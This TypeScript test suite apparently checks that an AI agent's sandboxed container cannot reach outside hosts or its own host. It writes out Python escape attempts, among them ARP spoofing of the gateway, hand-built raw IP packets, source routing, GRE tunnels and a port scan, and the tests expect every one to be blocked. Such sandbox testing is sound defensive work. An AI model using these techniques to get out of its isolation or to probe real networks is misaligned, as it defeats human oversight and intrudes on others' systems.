import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Attack, type Attempt, createAttack } from '../fixtures/attack.ts';
import { hostAddresses } from '../fixtures/wall.ts';

/** Everything that goes to an address instead of a name: it must reach nobody. */
const tcpPorts = [22, 25, 53, 80, 443, 3128, 8080];
const straight: readonly Attempt[] = [
  ...tcpPorts.map((port): Attempt => ({ what: `TCP to port ${port} of a host outside`, code: `seen = tcp(VICTIM, ${port}, T + '.')` })),
  {
    what: 'TCP with its data in the first packet',
    code: `s = socket.socket(); s.sendto(T.encode(), 0x20000000, (VICTIM, 80)); time.sleep(1)`,
  },
  { what: 'TCP over several paths', code: `seen = tcp(VICTIM, 80, T, protocol=262)` },
  { what: 'TCP by an IPv6 socket, to the address mapped', code: `seen = tcp('::ffff:' + VICTIM, 80, T, family=socket.AF_INET6)` },
  { what: 'TCP bound to the network device', code: `seen = tcp(VICTIM, 80, T, prepare=lambda s: s.setsockopt(socket.SOL_SOCKET, 25, b'eth0'))` },
  { what: 'TCP from a port of the system', code: `seen = tcp(VICTIM, 80, T, prepare=lambda s: s.bind(('0.0.0.0', 600 + os.getpid() % 300)))` },
  ...[53, 123, 443, 9999].map((port): Attempt => ({ what: `UDP to port ${port} of a host outside`, code: `seen = udp(VICTIM, ${port}, T)` })),
  { what: 'UDP by an IPv6 socket, to the address mapped', code: `seen = udp('::ffff:' + VICTIM, 9999, T, family=socket.AF_INET6)` },
  { what: 'the first packet of QUIC', code: `seen = udp(VICTIM, 443, b'\\xc3\\0\\0\\0\\1\\x08' + T.encode() + b'\\0' * 1180)` },
  { what: 'ping', code: `seen = ping(VICTIM, T)` },
];

/** What takes power that an agent does not have. */
const rawSocket = `s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW); s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)`;
const powerful: readonly Attempt[] = [
  { what: 'a raw ICMP socket', code: `s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); s.sendto(echo(T), (VICTIM, 0))` },
  { what: 'a packet made by hand', code: `${rawSocket}; s.sendto(ip(AGENT, VICTIM, 1, echo(T)), (VICTIM, 0))` },
  { what: "a packet in the gateway's name", code: `${rawSocket}; s.sendto(ip(GATEWAY, VICTIM, 1, echo(T)), (VICTIM, 0))` },
  ...[2, 4, 47, 132, 253].map((protocol): Attempt => ({
    what: `a packet of IP protocol ${protocol}`,
    code: `${rawSocket}; s.sendto(ip('0.0.0.0', VICTIM, ${protocol}, T.encode()), (VICTIM, 0))`,
  })),
  {
    what: 'an Ethernet frame to everybody',
    code: `s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0); s.sendto(ip('10.9.9.9', VICTIM, 1, echo(T)), ('eth0', 0x800, 0, 1, b'\\xff' * 6))`,
  },
  {
    what: 'ARP in the name of the gateway',
    code: `s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0); s.sendto(b'\\0\\1\\x08\\0\\6\\4\\0\\2' + b'\\2' * 6 + socket.inet_aton(GATEWAY) + b'\\xff' * 6 + socket.inet_aton(GATEWAY), ('eth0', 0x806, 0, 1, b'\\xff' * 6))`,
    control: `s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0); s.sendto(ip('10.9.9.9', VICTIM, 1, echo(T)), ('eth0', 0x800, 0, 1, b'\\xff' * 6))`,
    sees: /PermissionError/,
  },
  { what: 'broadcast to everybody', code: `seen = udp('255.255.255.255', 9999, T, prepare=lambda s: s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1))` },
  {
    what: 'broadcast to the own network',
    code: `n = struct.unpack('>I', socket.inet_aton(AGENT))[0] | 15; seen = udp(socket.inet_ntoa(struct.pack('>I', n)), 9999, T, prepare=lambda s: s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1))`,
    control: `seen = udp(VICTIM.rsplit('.', 1)[0] + '.255', 9999, T, prepare=lambda s: s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1))`,
  },
  { what: 'multicast to a host outside', code: `seen = udp('224.0.0.1', 9999, T)` },
];

/** The gateway is asked to carry what is not for it. */
const lsrr = `socket.inet_aton(VICTIM) + b'\\0'`;
const routed: readonly Attempt[] = [
  {
    what: 'a route through the gateway, written into the packet',
    code: `seen = udp(GATEWAY, 9999, T, prepare=lambda s: s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b'\\x83\\7\\4' + ${lsrr}))`,
    control: `seen = udp(VICTIM, 9999, T)`,
  },
  {
    what: 'a tunnel to the gateway (GRE, IP in IP)',
    code: `${rawSocket}; [s.sendto(ip(AGENT, GATEWAY, p, ip(AGENT, VICTIM, 1, echo(T))), (GATEWAY, 0)) for p in (4, 47)]`,
    control: `${rawSocket}; s.sendto(ip('0.0.0.0', VICTIM, 1, echo(T)), (VICTIM, 0))`,
  },
];

const host: readonly Attempt[] = [
  { what: 'TCP to a listener of this computer', code: spread(`tcp(address, HOST_TCP, T)`), onEach: 'host address' },
  { what: 'UDP to a listener of this computer', code: spread(`udp(address, HOST_UDP, T)`), onEach: 'host address' },
  {
    what: 'TCP to a listener of this computer, by IPv6 sockets',
    code: spread(`tcp('::ffff:' + address, HOST_TCP, T, family=socket.AF_INET6)`),
    onEach: 'host address',
  },
  {
    what: "broadcast to this computer's listener",
    code: `seen = udp('255.255.255.255', HOST_UDP, T, prepare=lambda s: s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1))`,
  },
];
/** For every address of the host, all at once. */
function spread(attempt: string): string {
  return `def on(address):\n  try: ${attempt}\n  except OSError: pass\nts = [threading.Thread(target=on, args=(address,)) for address in HOSTS]\n[t.start() for t in ts]; [t.join() for t in ts]`;
}

let attack: Attack;
beforeAll(async () => {
  attack = await createAttack();
  await attack.run([...straight, ...powerful, ...routed, ...host]);
});
afterAll(() => attack?.end());

const what = ({ what }: Attempt): string => what;

describe('a host outside hears nothing of', () => {
  it.each(straight.map(what))('%s', async (name) => expect(await attack.judge(name)).toBe('held'));
});

describe('a host outside hears nothing, for want of power, of', () => {
  it.each(powerful.map(what))('%s', async (name) => expect(await attack.judge(name)).toBe('held'));
});

describe('the gateway carries nothing by', () => {
  it.each(routed.map(what))('%s', async (name) => expect(await attack.judge(name)).toBe('held'));
});

describe('this computer hears nothing, on any of its addresses, of', () => {
  it.each(host.map(what))('%s', async (name) => expect(await attack.judge(name)).toBe('held'));

  it('ping', async () => {
    const addresses = JSON.stringify(hostAddresses().filter((address) => /^[\d.]+$/.test(address) && !address.startsWith('127.')));
    const count = `
import subprocess
pings = [subprocess.Popen(['ping', '-c1', '-W2', address], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) for address in ${addresses}]
print([ping.wait() for ping in pings].count(0), len(pings))`;
    const [answered, asked] = (await attack.python(attack.bare, count)).split(' ');
    expect(answered, 'control').toBe(asked);
    expect(await attack.python(attack.one.agent, count)).toBe(`0 ${asked}`);
  });

  it('connections to its first thousand ports, all at once', async () => {
    const bridge = attack.victim.address.replace(/\d+$/, '1');
    const scan = `
import asyncio
async def knock(port):
    try: await asyncio.wait_for(asyncio.open_connection('${bridge}', port), 5); return 1
    except ConnectionRefusedError: return 1
    except Exception: return 0
async def main(): print(sum(await asyncio.gather(*[knock(port) for port in range(1, 1001)])))
asyncio.run(main())`;
    expect(await attack.python(attack.bare, scan), 'control: open or refused').toBe('1000');
    expect(await attack.python(attack.one.agent, scan)).toBe('0');
  });
});

describe('all of this together', () => {
  it('was heard by nobody outside, not even as a connection that says nothing', async () => {
    const bare = (await attack.test.engine.inspectContainer(attack.bare))!.networks[attack.test.egress];
    const known = new Set([bare, '10.9.9.9', attack.one.site.agentAddress, attack.one.site.gatewayAddress]);
    const heard = [...(await attack.victim.heard()), ...(await attack.good.heard())];
    expect(heard.filter(({ from }) => !known.has(from) && !from.endsWith('.1'))).toEqual([]);
  });
});

describe('multicast', () => {
  it("reaches a listener on all of this computer's addresses only where nothing checks where packets come from", async () => {
    const before = attack.host.heard().length;
    const say = `import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'from within', ('224.0.0.1', ${attack.host.udpPort}))\nprint('sent')`;
    expect(await attack.python(attack.one.agent, say)).toBe('sent');
    await new Promise((resolve) => setTimeout(resolve, 500));
    const isChecked = ['all', 'default'].some((name) => readFileSync(`/proc/sys/net/ipv4/conf/${name}/rp_filter`, 'utf8').trim() !== '0');
    expect(attack.host.heard().slice(before).length).toBe(isChecked ? 0 : 1);
  });
});
